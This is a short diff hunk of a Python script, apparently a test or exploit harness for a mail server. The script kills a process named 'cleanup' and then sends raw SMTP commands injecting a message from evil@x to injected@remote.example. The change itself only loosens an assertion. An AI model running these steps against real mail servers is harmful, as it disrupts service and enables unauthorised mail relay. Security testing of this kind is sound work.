@@ -170,7 +170,7 @@ killed = 0
 for k in kids:
     if os.readlink("/proc/%d/exe" % int(k)).endswith("/cleanup"):
         os.kill(int(k), 9); killed += 1
-assert killed == 1, "cleanup not found"
+assert killed >= 1, "cleanup not found"   # one per CPU if it grew
 time.sleep(0.5)
 s.sendall(b"MAIL FROM:<evil@x>\r\nRCPT TO:<injected@remote.example>\r\nDATA\r\nevil\r\n.\r\nQUIT\r\n")
 r = reply()
